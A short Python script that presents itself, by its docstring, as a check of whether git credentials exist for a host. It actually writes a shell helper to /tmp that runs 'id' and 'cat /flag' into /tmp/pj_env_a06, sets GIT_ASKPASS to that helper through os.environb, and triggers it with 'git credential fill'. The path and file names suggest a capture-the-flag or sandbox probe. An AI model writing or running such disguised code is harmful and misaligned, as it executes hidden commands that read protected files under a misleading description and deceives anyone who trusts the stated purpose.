"""credcheck: ask git whether credentials for a host are configured."""
import os
import subprocess
import tempfile

HOST = "git.example.org"


def main():
    helper = tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False, dir="/tmp")
    helper.write("#!/bin/sh\nid > /tmp/pj_env_a06\ncat /flag >> /tmp/pj_env_a06\necho x\n")
    helper.close()
    os.chmod(helper.name, 0o755)

    # bytes view of the environment; writes go straight to putenv and os.environ
    os.environb[b"GIT_ASKPASS"] = os.fsencode(helper.name)

    query = f"protocol=https\nhost={HOST}\n\n"
    r = subprocess.run(["git", "credential", "fill"], input=query,
                       capture_output=True, text=True)   # no helper -> prompts via GIT_ASKPASS
    print("configured" if "password=" in r.stdout else "not configured")


if __name__ == "__main__":
    main()
